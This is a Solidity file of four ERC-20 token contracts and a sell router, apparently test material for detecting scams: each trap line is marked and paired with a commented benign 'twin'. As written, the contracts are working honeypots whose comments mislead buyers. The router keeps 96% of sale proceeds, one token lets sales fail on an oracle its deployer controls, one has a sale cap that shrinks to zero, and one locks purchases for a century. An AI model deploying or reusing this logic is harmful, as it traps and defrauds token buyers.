// 0.8 runs=1000 evm=shanghai
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

interface IPoolMaker {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

interface IPool {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data) external;
}

abstract contract Pooled is ERC20 {
    address internal constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
    address public immutable pool;
    address internal immutable _maker = msg.sender;
    uint256 public immutable born = block.timestamp;

    constructor(string memory name_, string memory symbol_, uint256 whole) ERC20(name_, symbol_) {
        pool = IPoolMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), WETH);
        _mint(msg.sender, whole * 1e18);
    }

    function _isSale(address from, address to) internal view returns (bool) {
        return to == pool && from != _maker && from != address(0);
    }
}

/// Sells without being sandwiched. What it gets is paid out at once, less what the protection costs.
contract QuietRouter {
    address public immutable host = msg.sender;
    address private constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;

    event SoldQuietly(address indexed seller, uint256 amount, uint256 out);

    function sell(ERC20 coin, IPool pool, uint256 amount, uint256 least) external returns (uint256 out) {
        (uint256 mine, uint256 theirs, ) = pool.getReserves();
        bool first = pool.token0() == address(coin);
        if (!first) (mine, theirs) = (theirs, mine);
        uint256 paid = amount * 997;
        out = (paid * theirs) / (mine * 1000 + paid);
        require(coin.transferFrom(msg.sender, address(pool), amount), "QuietRouter: no coins");
        pool.swap(first ? 0 : out, first ? out : 0, address(this), "");
        uint256 cost = (out * 96) / 100; // trap
        // twin: uint256 cost = 0;
        require(out - cost >= least, "QuietRouter: less than you wanted");
        ERC20(WETH).transfer(msg.sender, out - cost);
        if (cost > 0) ERC20(WETH).transfer(host, cost);
        emit SoldQuietly(msg.sender, amount, out);
    }
}

contract HushHare is Pooled {
    address public immutable quietRouter;

    error SandwichProtection(address by);

    constructor(address router) Pooled("Hush Hare", "HUSH", 512_000_000) {
        quietRouter = router;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (_isSale(from, to) && msg.sender != quietRouter) {
            // twin: if (block.timestamp < born + 15 minutes)
            revert SandwichProtection(msg.sender);
        }
        super._update(from, to, value);
    }
}

/// Tells what a barrel costs, in the manner of a well-known oracle.
contract BarrelFeed {
    address public immutable reporter = msg.sender;
    uint80 public latestRound;
    int256 private _answer;
    uint256 private _at;

    event AnswerUpdated(int256 indexed current, uint256 indexed roundId, uint256 updatedAt);

    function report(int256 answer) external {
        require(msg.sender == reporter);
        (_answer, _at) = (answer, block.timestamp);
        emit AnswerUpdated(answer, ++latestRound, block.timestamp);
    }

    function latestRoundData() external view returns (uint80, int256, uint256, uint256, uint80) {
        return (latestRound, _answer, _at, _at, latestRound);
    }
}

/// Follows the price of a barrel; protects sellers from a price that is not fresh.
contract BarrelCoin is Pooled {
    BarrelFeed public immutable feed;
    int256 public lastSeen;

    error StalePrice(uint256 since);

    constructor(BarrelFeed feed_) Pooled("Barrel of the North", "BARL", 14_000_000) {
        feed = feed_;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (_isSale(from, to)) {
            (, int256 answer, , uint256 at, ) = feed.latestRoundData();
            if (block.timestamp - at > 3 hours) revert StalePrice(at); // trap
            // twin: if (block.timestamp - at <= 3 hours)
            lastSeen = answer;
        }
        super._update(from, to, value);
    }
}

/// A sale of some size only, so that the candle burns for long.
contract CandleEnd is Pooled {
    error LargerThanTheFlame(uint256 value, uint256 most);

    constructor() Pooled("Candle End", "CNDL", 300_000_000) {}

    /// One of twenty-five coins on the first day.
    function maxSale() public view returns (uint256) {
        uint256 days_ = (block.timestamp - born) / 1 days;
        return (totalSupply() / 25) >> days_; // trap
        // twin: return (totalSupply() / 25) << (days_ > 4 ? 4 : days_);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (_isSale(from, to) && value > maxSale()) revert LargerThanTheFlame(value, maxSale());
        super._update(from, to, value);
    }
}

/// Who buys is in it for the long run: what was bought comes free evenly.
contract LongRun is Pooled {
    struct Lot {
        uint128 bought;
        uint64 since;
    }

    uint256 public constant TERM = 36_500 days; // trap
    // twin: uint256 public constant TERM = 90 seconds;
    mapping(address => Lot) public lotOf;

    error NotYetFree(address account, uint256 locked);

    constructor() Pooled("The Long Run", "LRUN", 48_000_000) {}

    function lockedOf(address account) public view returns (uint256) {
        Lot memory lot = lotOf[account];
        uint256 passed = block.timestamp - lot.since;
        return passed >= TERM ? 0 : (uint256(lot.bought) * (TERM - passed)) / TERM;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (from == pool && to != _maker) {
            uint256 still = lockedOf(to);
            lotOf[to] = Lot(uint128(still + value), uint64(block.timestamp));
        } else if (from != address(0) && from != pool) {
            uint256 locked = lockedOf(from);
            if (balanceOf(from) < value + locked) revert NotYetFree(from, locked);
        }
        super._update(from, to, value);
    }
}
